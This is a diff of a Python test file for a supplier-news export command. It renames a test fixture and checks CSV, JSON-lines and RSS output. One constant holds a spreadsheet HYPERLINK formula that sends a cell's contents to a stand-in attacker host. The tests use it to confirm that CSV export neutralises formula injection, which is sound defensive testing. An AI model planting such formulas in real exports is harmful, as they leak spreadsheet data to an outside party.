@@ -14,15 +14,15 @@ import pytest
 
 from supplierwatch.exports.tables import COLUMNS, harmless_cell
 from supplierwatch.shell.exits import Exit
-from tests.supplierwatch.installation import House, a_house, an_article
+from tests.supplierwatch.instance import Instance, an_article, an_instance
 
 FORMULA = '=HYPERLINK("http://thief.example/?"&A1,"Halcyon prices")'
 
 
 @pytest.fixture
-def house(tmp_path: Path) -> House:
+def instance(tmp_path: Path) -> Instance:
     """Three items, the third a formula for a headline; the watches find each at least once."""
-    made = a_house(tmp_path)
+    made = an_instance(tmp_path)
     with made.service():
         pass
     made.stores(
@@ -33,15 +33,15 @@ def house(tmp_path: Path) -> House:
     return made
 
 
-def rows_of(house: House, *args: str) -> list[dict[str, str]]:
-    file = house.data / "out.csv"
-    house.run("export", str(file), *args)
+def rows_of(instance: Instance, *args: str) -> list[dict[str, str]]:
+    file = instance.data / "out.csv"
+    instance.run("export", str(file), *args)
     with file.open(encoding="utf-8", newline="") as read:
         return list(csv.DictReader(read))
 
 
-def test_a_table_is_read_back_by_csv(house: House) -> None:
-    rows = rows_of(house, "--watch", "halcyon-trusts")
+def test_a_table_is_read_back_by_csv(instance: Instance) -> None:
+    rows = rows_of(instance, "--watch", "halcyon-trusts")
     assert [row["title"] for row in rows] == [
         "'" + FORMULA,
         "Corvid Data & friends <b>merge</b>",
@@ -66,16 +66,16 @@ def test_a_cell_that_is_text_stays_as_it_is(text: str) -> None:
     assert harmless_cell(text) == text
 
 
-def test_excel_is_told_that_a_table_is_utf_8(house: House) -> None:
-    rows_of(house, "--bom")
-    assert (house.data / "out.csv").read_bytes().startswith(b"\xef\xbb\xbffirst_seen_at,")
-    rows_of(house)
-    assert (house.data / "out.csv").read_bytes().startswith(b"first_seen_at,")
-    assert house.run("export", "--format", "rss", "--bom").exit_code == Exit.USAGE
+def test_excel_is_told_that_a_table_is_utf_8(instance: Instance) -> None:
+    rows_of(instance, "--bom")
+    assert (instance.data / "out.csv").read_bytes().startswith(b"\xef\xbb\xbffirst_seen_at,")
+    rows_of(instance)
+    assert (instance.data / "out.csv").read_bytes().startswith(b"first_seen_at,")
+    assert instance.run("export", "--format", "rss", "--bom").exit_code == Exit.USAGE
 
 
-def test_lines_are_read_back_by_json(house: House) -> None:
-    run = house.run("export", "--format", "jsonl", "--watch", "halcyon-trusts")
+def test_lines_are_read_back_by_json(instance: Instance) -> None:
+    run = instance.run("export", "--format", "jsonl", "--watch", "halcyon-trusts")
     found: list[dict[str, Any]] = [json.loads(line) for line in run.stdout.splitlines()]
     assert found[0]["item"]["title"] == FORMULA
     assert found[2]["why"]["sentence"].startswith("Millbrook Hospitals has paused")
@@ -83,9 +83,9 @@ def test_lines_are_read_back_by_json(house: House) -> None:
     assert found[2]["suppliers"] == ["halcyon"]
 
 
-def test_a_feed_is_read_back_by_feedparser(house: House) -> None:
-    file = house.data / "watch.rss"
-    assert house.run("export", str(file), "--watch", "halcyon-trusts").exit_code == 0
+def test_a_feed_is_read_back_by_feedparser(instance: Instance) -> None:
+    file = instance.data / "watch.rss"
+    assert instance.run("export", str(file), "--watch", "halcyon-trusts").exit_code == 0
     feed = feedparser.parse(file.read_bytes())
     assert not feed.bozo
     assert feed.version == "rss20"
@@ -100,16 +100,16 @@ def test_a_feed_is_read_back_by_feedparser(house: House) -> None:
     assert timedelta(hours=1) < age < timedelta(hours=3)
 
 
-def test_filters_narrow_what_is_written(house: House) -> None:
-    assert {row["watch"] for row in rows_of(house)} >= {"halcyon-trusts", "corvid"}
-    assert {row["watch"] for row in rows_of(house, "--watch", "corvid")} == {"corvid"}
-    assert len(rows_of(house, "--limit", "1")) == 1
-    assert rows_of(house, "--supplier", "halcyon")
-    assert rows_of(house, "--since", "1h")
-    assert not rows_of(house, "--until", "1h")
+def test_filters_narrow_what_is_written(instance: Instance) -> None:
+    assert {row["watch"] for row in rows_of(instance)} >= {"halcyon-trusts", "corvid"}
+    assert {row["watch"] for row in rows_of(instance, "--watch", "corvid")} == {"corvid"}
+    assert len(rows_of(instance, "--limit", "1")) == 1
+    assert rows_of(instance, "--supplier", "halcyon")
+    assert rows_of(instance, "--since", "1h")
+    assert not rows_of(instance, "--until", "1h")
     tomorrow = (datetime.now(UTC) + timedelta(days=2)).date().isoformat()
-    assert not rows_of(house, "--since", tomorrow)
-    assert rows_of(house, "--until", tomorrow)
+    assert not rows_of(instance, "--since", tomorrow)
+    assert rows_of(instance, "--until", tomorrow)
 
 
 @pytest.mark.parametrize(
@@ -123,20 +123,22 @@ def test_filters_narrow_what_is_written(house: House) -> None:
     ids=["watch", "supplier", "until", "ending"],
 )
 def test_what_is_not_there_is_refused_by_name(
-    house: House, args: tuple[str, ...], said: str
+    instance: Instance, args: tuple[str, ...], said: str
 ) -> None:
-    run = house.run("export", *args)
+    run = instance.run("export", *args)
     assert run.exit_code == Exit.USAGE
     assert said in run.stderr
 
 
-def test_a_file_is_there_whole_or_as_it_was(house: House, monkeypatch: pytest.MonkeyPatch) -> None:
-    file = house.data / "out.csv"
+def test_a_file_is_there_whole_or_as_it_was(
+    instance: Instance, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    file = instance.data / "out.csv"
     file.write_text("before", encoding="utf-8")
     monkeypatch.setattr(csv, "writer", lambda *_, **__: _Breaks())
-    assert house.run("export", str(file)).exit_code == Exit.FAILED
+    assert instance.run("export", str(file)).exit_code == Exit.FAILED
     assert file.read_text(encoding="utf-8") == "before"
-    assert [path.name for path in house.data.iterdir() if path.suffix == ".tmp"] == []
+    assert [path.name for path in instance.data.iterdir() if path.suffix == ".tmp"] == []
 
 
 class _Breaks:
@@ -146,8 +148,8 @@ class _Breaks:
         raise OSError(28, "No space left on device")
 
 
-def test_nothing_to_export_is_said_and_an_empty_table_written(house: House) -> None:
-    file = house.data / "none.csv"
-    run = house.run("export", str(file), "--until", "2020-01-01")
+def test_nothing_to_export_is_said_and_an_empty_table_written(instance: Instance) -> None:
+    file = instance.data / "none.csv"
+    run = instance.run("export", str(file), "--until", "2020-01-01")
     assert run.exit_code == Exit.NOTHING_FOUND
     assert list(csv.reader(io.StringIO(file.read_text(encoding="utf-8")))) == [list(COLUMNS)]
